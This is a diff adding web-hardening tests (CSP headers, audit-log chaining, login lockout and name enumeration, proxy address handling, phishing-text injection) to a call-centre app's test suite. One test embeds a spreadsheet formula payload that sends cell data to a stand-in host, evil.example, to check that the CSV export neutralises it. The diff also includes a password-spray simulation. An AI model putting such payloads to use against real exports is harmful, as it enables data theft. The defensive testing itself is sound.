@@ -12,6 +12,7 @@ import subprocess
 import sys
 import time
 from datetime import datetime, timedelta, timezone
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -296,6 +297,33 @@ def test_views_of_briefing_call_and_audio_are_audited(app, db):
                       ("hana", "handler", "play_audio", "zh-1001-b"), ("hana", "handler", "view_call", "en-2001")]
 
 
+def test_the_audit_log_of_a_working_session_is_one_verified_chain(app, db, capsys):
+    """Logins (a failed one too), views, audio, a callback, a QA review and export, a logout: every
+    row is chained, and `callbrief audit verify` says OK with the row count."""
+    from flows.cli import main
+    from pipeline.outputs.qa import scorecard_items
+
+    sample_id, call_id = sample_ids(db)
+    anonymous, hana, quinn = TestClient(app), TestClient(app), TestClient(app)
+    assert login(anonymous, "hana", "not her password").status_code == 401
+    assert login(hana, "hana").status_code == 303 and login(quinn, "quinn").status_code == 303
+    for url in ("/customers/C1001", "/calls/zh-1001-b", "/api/calls/en-2001"):
+        assert hana.get(url).status_code == 200, url
+    assert hana.get("/calls/zh-1001-b/audio", headers={"Range": "bytes=0-9"}).status_code == 206
+    assert hana.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": csrf_of(hana)}).status_code == 200
+    assert quinn.post(f"/qa/{sample_id}/{call_id}", data={**{i["id"]: "pass" for i in scorecard_items()},
+                                                         "csrf_token": csrf_of(quinn)}).status_code == 200
+    assert quinn.get(f"/qa/export/{sample_id}.csv").status_code == 200
+    assert hana.post("/logout", data={"csrf_token": csrf_of(hana)}, follow_redirects=False).status_code == 303
+    actions = {r[0] for r in query(db, "SELECT action FROM audit_log")}
+    assert {"login_failed", "login", "view_briefing", "view_call", "play_audio", "callback_done", "qa_review",
+            "qa_export", "logout"} <= actions, actions
+    total = query(db, "SELECT count(*), count(hash), max(id) FROM audit_log")[0]
+    assert total[0] == total[1] == total[2] > 10
+    assert main(["audit", "verify", "--db", str(db)]) == 0
+    assert capsys.readouterr().out.startswith(f"audit log OK: {total[0]} rows")
+
+
 def test_audio_answers_range_requests(app, db):
     client = client_as(app, "quinn")
     path = Path(query(db, "SELECT path FROM calls WHERE call_id = 'zh-1001-b'")[0][0])
@@ -552,3 +580,270 @@ def test_a_new_empty_database_gives_empty_pages_not_errors(tmp_path):
     assert "Nobody is waiting" in handler.get("/worklist").text
     for url in ("/dashboard", "/qa", "/qa/rollup", "/search?q=卡"):
         assert lead.get(url).status_code == 200, url
+
+
+# --- web hardening (issue 24, part 6) ---------------------------------------------------------
+
+def _csp(response) -> dict[str, list[str]]:
+    """The Content-Security-Policy header as directive -> sources."""
+    out = {}
+    for part in response.headers.get("content-security-policy", "").split(";"):
+        if part.strip():
+            name, *sources = part.split()
+            out[name] = sources
+    return out
+
+
+def test_every_response_carries_the_security_headers(app, db):
+    """Pages, static files, the API, redirects and every kind of error, a crash included."""
+    def crash():
+        raise RuntimeError("a bug")
+
+    app.add_api_route("/crash-for-test", crash)
+    app.add_api_route("/api/crash-for-test", crash)
+    hana, anonymous = client_as(app, "hana"), TestClient(app)
+    token = csrf_of(hana)
+    crashing = TestClient(app, raise_server_exceptions=False)  # as a browser sees a crash: a 500 answer
+    responses = {
+        "page": hana.get("/worklist"), "login page": anonymous.get("/login"),
+        "static script": anonymous.get("/static/app.js"), "static style": anonymous.get("/static/app.css"),
+        "missing static": anonymous.get("/static/none.js"),
+        "api": hana.get("/api/worklist"), "api not logged in": anonymous.get("/api/worklist"),
+        "redirect to login": anonymous.get("/worklist", follow_redirects=False),
+        "redirect after post": hana.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": token},
+                                         follow_redirects=False),
+        "not found page": hana.get("/no-such-page"), "forbidden page": hana.get("/dashboard"),
+        "invalid api": hana.post("/api/customers/C1001/callback", json={"outcome": "maybe"},
+                                 headers={"X-CSRF-Token": token}),
+        "csrf refused": hana.post("/customers/C1001/callback", data={"outcome": "resolved"}, follow_redirects=False),
+        "audio": hana.get("/calls/zh-1001-b/audio", headers={"Range": "bytes=0-9"}),
+        "plot file": hana.get("/calls/zh-1001-b/plot.svg"),
+        "crash page": crashing.get("/crash-for-test"), "crash api": crashing.get("/api/crash-for-test"),
+    }
+    assert responses["crash page"].status_code == 500 and "a bug" not in responses["crash page"].text
+    assert responses["crash api"].json() == {"detail": "internal error"}
+    assert responses["redirect after post"].status_code == 303 and responses["missing static"].status_code == 404
+    for what, r in responses.items():
+        assert _csp(r).get("frame-ancestors") == ["'none'"], (what, r.status_code, r.headers)
+        assert r.headers.get("x-content-type-options") == "nosniff", what
+        assert r.headers.get("referrer-policy") == "no-referrer", what
+    policy = _csp(responses["page"])
+    assert policy["script-src"] == ["'self'"] and policy["style-src"] == ["'self'"]  # nothing inline, nothing from elsewhere
+    assert policy["default-src"] == ["'none'"] and policy["media-src"] == ["'self'"]  # the player loads our audio
+
+
+class _Inline(HTMLParser):
+    """Collects what a Content-Security-Policy without 'unsafe-inline' would block."""
+
+    def __init__(self):
+        super().__init__()
+        self.found: list[str] = []
+        self._script = False
+
+    def handle_starttag(self, tag, attrs):
+        for name, value in attrs:
+            if name.startswith("on") or name == "style" or (value or "").strip().lower().startswith("javascript:"):
+                self.found.append(f"<{tag} {name}={value!r}>")
+        self._script = tag == "script" and not dict(attrs).get("src")
+
+    def handle_data(self, data):
+        if self._script and data.strip():
+            self.found.append(f"inline script {data.strip()[:40]!r}")
+
+    def handle_endtag(self, tag):
+        self._script = False
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+        self._script = False
+
+
+def test_no_page_has_inline_script_handlers_or_style_attributes(app, db):
+    """Every page as rendered for its roles (the CSP would block these), and the templates themselves."""
+    sample_id, call_id = sample_ids(db)
+    pages = {"lee": ["/worklist", "/customers/C1001", "/calls/zh-1001-b", "/search?q=卡", f"/qa/{sample_id}/{call_id}",
+                     "/qa", "/qa/rollup", "/dashboard", "/dashboard?group=agent", "/api/docs", "/no-such-page"],
+             None: ["/login"]}
+    for user, urls in pages.items():
+        client = client_as(app, user) if user else TestClient(app)
+        for url in urls:
+            page = client.get(url)
+            assert "text/html" in page.headers["content-type"], url
+            parser = _Inline()
+            parser.feed(page.text)
+            assert parser.found == [], (url, parser.found[:5])
+            if url == "/customers/C1001":
+                assert re.search(r'class="score s\d+"', page.text)  # the score's colour is a class now
+    templates = Path(__file__).resolve().parents[2] / "web" / "templates"
+    for template in templates.glob("*.html"):
+        assert not re.search(r"\son\w+=|\sstyle=|<script(?![^>]*\ssrc=)|javascript:", template.read_text()), template
+
+
+def test_qa_csv_export_cells_cannot_run_as_formulas(app, db):
+    from pipeline.config.datafiles import read_json
+
+    sample_id, call_id = sample_ids(db)
+    client = client_as(app, "quinn")
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
+    r = client.post(f"/api/qa/{sample_id}/{call_id}", headers={"X-CSRF-Token": csrf_of(client)},
+                    json={"scores": {i["id"]: "pass" for i in read_json("qa_scorecard.json")["items"]}, "comment": formula})
+    assert r.status_code == 200
+    export = client.get(f"/qa/export/{sample_id}.csv")
+    quinn = next(r for r in csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))) if r["reviewer"] == "quinn")
+    assert quinn["comment"] == "'" + formula and quinn["greeting"] == "pass"
+    assert query(db, "SELECT comment FROM qa_reviews")[0][0] == formula  # stored as typed; quoted only in the CSV
+
+
+def _message(response) -> str:
+    found = re.search(r'<p class="error" role="alert">([^<]*)</p>', response.text)
+    return found.group(1) if found else ""
+
+
+def test_known_and_unknown_names_get_the_same_answers_and_the_same_lock(app, db):
+    """Names cannot be told apart: the same failures give the same messages, the lock message
+    included, for a user's name and for a name nobody has (each from its own address here)."""
+    known, unknown = TestClient(app, client=("10.1.0.1", 5000)), TestClient(app, client=("10.1.0.2", 5000))
+    answers = {"hana": [], "nobody": []}
+    for attempt in range(5):
+        for client, name in ((known, "hana"), (unknown, "nobody")):
+            r = login(client, name, "wrong password!" if attempt < 4 else PASSWORDS["hana"][1])  # last: hana's right one
+            answers[name].append((r.status_code, re.sub(r"again in \d+ s", "again in N s", _message(r))))
+    assert answers["hana"] == answers["nobody"], answers
+    assert answers["hana"][2] == (401, "wrong user name or password; locked for 30 s")
+    assert answers["hana"][3] == answers["hana"][4] == (401, "too many failed logins: try again in N s")
+    assert query(db, "SELECT failures FROM login_failures WHERE scope = 'name' AND key = 'nobody'") == [(3,)]
+    assert query(db, "SELECT failed_logins FROM users WHERE username = 'hana'") == [(3,)]  # the per-user lock as before
+
+
+def test_a_failure_count_from_before_the_upgrade_does_not_tell_a_name_apart(app, db):
+    """A user's failures counted before their time was kept (no last_failed_login) would lock the
+    name at its next failure, where an unknown name only gets "wrong": they are forgotten."""
+    from pipeline.store.connect import Database
+
+    Database(db).execute("UPDATE users SET failed_logins = 5, locked_until = now()::TIMESTAMP - INTERVAL 1 HOUR, "
+                         "last_failed_login = NULL WHERE username = 'hugo'")
+    app.state.web.user_cache.clear()
+    answers = [_message(login(TestClient(app, client=(f"10.3.0.{i}", 5000)), name, "wrong password!"))
+               for i, name in enumerate(("hugo", "nobody-at-all"))]
+    assert answers == ["wrong user name or password"] * 2, answers
+
+
+def test_one_address_is_locked_after_failures_over_many_names(app, db):
+    from web.auth import FREE_ADDRESS_FAILURES
+
+    spray = TestClient(app, client=("10.2.0.1", 5000))
+    for i in range(FREE_ADDRESS_FAILURES):
+        r = login(spray, f"guess{i}", "Winter2026!")
+    assert _message(r) == "wrong user name or password; locked for 30 s"  # one failure per name: the address
+    r = login(spray, "hugo")
+    assert r.status_code == 401 and "try again in" in _message(r)  # even a right password, from there
+    assert login(TestClient(app, client=("10.2.0.2", 5000)), "hugo").status_code == 303  # hugo is not locked
+    assert query(db, "SELECT failures FROM login_failures WHERE scope = 'address' AND key = '10.2.0.1'") == \
+        [(FREE_ADDRESS_FAILURES,)]
+    assert {r[0] for r in query(db, "SELECT client FROM audit_log WHERE action = 'login_failed'")} == {"10.2.0.1"}
+
+
+def test_the_client_address_behind_a_trusted_proxy(db, settings, sessions):
+    """Behind the proxy named in web_trusted_proxies the address comes from X-Forwarded-For (its
+    right-most entry not a proxy); from anyone else that header is ignored."""
+    from dataclasses import replace
+
+    from web.app import create_app
+    from web.auth import FREE_ADDRESS_FAILURES
+
+    app = create_app(db, replace(settings, web_trusted_proxies="10.9.0.1, 10.8.0.0/24"))
+    app.state.indexer.join()
+    # One person behind the proxy tries many names; the left entry is made up by them, the right
+    # one is what the proxy saw.
+    proxy = TestClient(app, client=("10.9.0.1", 443), headers={"X-Forwarded-For": "203.0.113.9, 198.51.100.7"})
+    for i in range(FREE_ADDRESS_FAILURES):
+        login(proxy, f"guess{i}", "Winter2026!")
+    proxy.headers["X-Forwarded-For"] = "198.51.100.7"
+    assert "try again in" in _message(login(proxy, "hugo"))
+    proxy.headers["X-Forwarded-For"] = "198.51.100.8, 10.8.0.3"  # another person, through two of our proxies
+    assert login(proxy, "hugo").status_code == 303
+    direct = TestClient(app, client=("192.0.2.50", 5000), headers={"X-Forwarded-For": "198.51.100.99"})
+    login(direct, "hugo", "wrong password!")
+    clients = [r[0] for r in query(db, "SELECT client FROM audit_log WHERE action LIKE 'login%' "
+                                       "AND client <> 'testclient' ORDER BY logged_at")]  # not the fixture's logins
+    assert clients == ["198.51.100.7"] * (FREE_ADDRESS_FAILURES + 1) + ["198.51.100.8", "192.0.2.50"], clients
+
+
+def test_a_bad_trusted_proxies_setting_stops_the_start(db, settings):
+    from dataclasses import replace
+
+    from pipeline.config.settings import SettingsError
+    from web.app import create_app
+
+    with pytest.raises(SettingsError, match="web_trusted_proxies"):
+        create_app(db, replace(settings, web_trusted_proxies="10.0.0.300"))
+
+
+def test_no_link_puts_its_own_text_or_a_false_confirmation_on_a_page(app, db):
+    """Messages come from fixed keys: ?error=, ?done=, ?saved= and made-up ids or filters in a link
+    show nothing of theirs."""
+    sample_id, call_id = sample_ids(db)
+    lure = "Your account is suspended: call 0800 424242"
+    anonymous, hana, quinn = TestClient(app), client_as(app, "hana"), client_as(app, "quinn")
+    pages = [anonymous.get("/login", params={"error": lure}),
+             hana.get("/customers/C1001", params={"done": "1", "error": lure}),
+             quinn.get(f"/qa/{sample_id}/{call_id}", params={"saved": "1", "error": lure}),
+             hana.get("/calls/" + lure), hana.get("/customers/" + lure),
+             hana.get("/search", params={"date_from": lure}), hana.get("/api/search", params={"min_escalation": lure})]
+    for page in pages:
+        assert "suspended" not in page.text and "424242" not in page.text, page.url
+        assert "Callback recorded" not in page.text and "Review saved" not in page.text, page.url
+    assert 'class="error"' not in pages[0].text and 'role="status"' not in pages[1].text + pages[2].text
+    assert pages[3].status_code == 404 and "no call (not a valid id)" in pages[3].text
+    assert "no call zh-404" in hana.get("/calls/zh-404").text  # an id is still named
+
+
+def test_a_confirmation_shows_once_and_only_after_the_post_did_it(app, db):
+    from pipeline.outputs.qa import scorecard_items
+
+    sample_id, call_id = sample_ids(db)
+    hana = client_as(app, "hana")
+    done = hana.post("/customers/C1001/callback", data={"outcome": "resolved", "csrf_token": csrf_of(hana)},
+                     follow_redirects=False)
+    assert done.status_code == 303 and done.headers["location"] == "/customers/C1001"
+    assert query(db, "SELECT count(*) FROM callbacks")[0][0] == 1
+    flash = hana.cookies.get("cb_flash")
+    for user, page in (("hugo", "/customers/C1001"), ("hana", "/customers/C2001")):  # not another user's or page's
+        other = TestClient(app, cookies={"cb_session": app.state.cookies[user], "cb_flash": flash})
+        assert "Callback recorded" not in other.get(page).text
+    shown = hana.get("/customers/C1001")
+    assert "Callback recorded. · 已记录回访。" in shown.text and "cb_flash" not in hana.cookies
+    assert "Callback recorded" not in hana.get("/customers/C1001").text  # once
+    # A refused callback (an unknown customer) confirms nothing.
+    refused = hana.post("/customers/C404/callback", data={"outcome": "resolved", "csrf_token": csrf_of(hana)})
+    assert refused.status_code == 404 and "cb_flash" not in hana.cookies
+    quinn = client_as(app, "quinn")
+    scores = {i["id"]: "pass" for i in scorecard_items()}
+    saved = quinn.post(f"/qa/{sample_id}/{call_id}", data={**scores, "csrf_token": csrf_of(quinn)})
+    assert saved.status_code == 200 and "Review saved. · 评审已保存。" in saved.text
+    assert "Review saved" not in quinn.get(f"/qa/{sample_id}/{call_id}").text
+
+
+def test_the_api_and_the_cli_accept_what_the_prefill_returns(app, db, capsys):
+    """A card read from the API and sent back as it is, "no evidence" answers included, is stored;
+    the page offers the same answers, and the CLI takes them through the same validator."""
+    from flows.cli import main
+
+    sample_id, call_id = query(db, "SELECT sample_id, call_id FROM qa_samples WHERE scorecard::VARCHAR "
+                                   "LIKE '%no evidence%' ORDER BY call_id LIMIT 1")[0]
+    client = client_as(app, "quinn")
+    card = client.get(f"/api/qa/{sample_id}/{call_id}").json()
+    scores = {i["id"]: i["answer"] for i in card["items"]}
+    assert "no evidence" in scores.values()
+    r = client.post(f"/api/qa/{sample_id}/{call_id}", json={"scores": scores}, headers={"X-CSRF-Token": csrf_of(client)})
+    assert r.status_code == 200, r.text
+    assert json.loads(query(db, "SELECT scores FROM qa_reviews WHERE reviewer = 'quinn'")[0][0]) == scores
+    page = client.get(f"/qa/{sample_id}/{call_id}").text
+    for item, value in scores.items():
+        assert re.search(rf'name="{item}" value="{re.escape(value)}" checked', page), item
+    assert main(["qa", "review", sample_id, call_id, "--reviewer", "lee", "--scores", json.dumps(scores),
+                 "--db", str(db)]) == 0, capsys.readouterr().err
+    rollup = {a["agent_id"]: a for a in client.get("/api/qa/rollup").json()}
+    agent = query(db, "SELECT agent_id FROM calls WHERE call_id = ?", [call_id])[0][0]
+    unjudged = [i for i, v in scores.items() if v == "no evidence"]
+    assert all(rollup[agent]["pass_rate"][i] is None for i in unjudged)  # neither pass nor fail
